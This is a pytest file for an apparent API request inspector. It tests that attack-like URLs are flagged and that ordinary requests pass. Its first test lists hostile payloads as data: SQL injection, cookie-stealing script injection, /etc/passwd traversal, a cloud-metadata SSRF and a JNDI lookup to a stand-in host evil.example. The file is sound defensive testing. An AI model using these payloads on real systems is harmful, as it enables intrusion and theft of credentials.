import pytest
from hypothesis import given
from hypothesis import strategies as st

from apiward.core.decision import Effect
from apiward.watch.logs.attacks import rulings_of


@pytest.mark.parametrize(
    ("target", "rule", "place"),
    [
        ("/products?q=1%27%20OR%201%3D1--%20", "inspect.sql", "query q"),
        ("/search?q=<script>alert(document.cookie)</script>", "inspect.markup", "query q"),
        ("/files/..%2f..%2f..%2fetc%2fpasswd", "inspect.path", "path"),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/", "inspect.target", "query url"),
        ("/x?a=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", "inspect.lookup", "query a"),
    ],
)
def test_texts_that_attack_are_noted(target: str, rule: str, place: str) -> None:
    (ruling,) = rulings_of(target)
    decision = ruling.decision
    assert (decision.rule, decision.place, decision.effect) == (rule, place, Effect.NOTE)
    assert not ruling.is_applied


@pytest.mark.parametrize(
    "target",
    [
        "/", "/orders/17", "/products?q=lamp&page=2", "/search?q=Tom%20O%27Brien%20and%20sons", "/a%20b/c.pdf",
        "/login?next=%2Forders%2F17", "/track?mail=anna@example.com", "/v1/users/5e1c61c8-6d0b-4f6e-8a8f-0b3f0a6f2c11",
        "/search?q=select%20a%20chair%20from%20the%20list", "https://shop.example/a?b=c", "*", "",
    ],
)  # fmt: skip
def test_ordinary_requests_are_not(target: str) -> None:
    assert rulings_of(target) == ()


@given(target=st.text(max_size=300))
def test_no_target_hurts_and_none_is_repeated(target: str) -> None:
    for ruling in rulings_of(target):
        assert ruling.decision.rule.startswith("inspect.")
        assert len(ruling.decision.place) <= 200
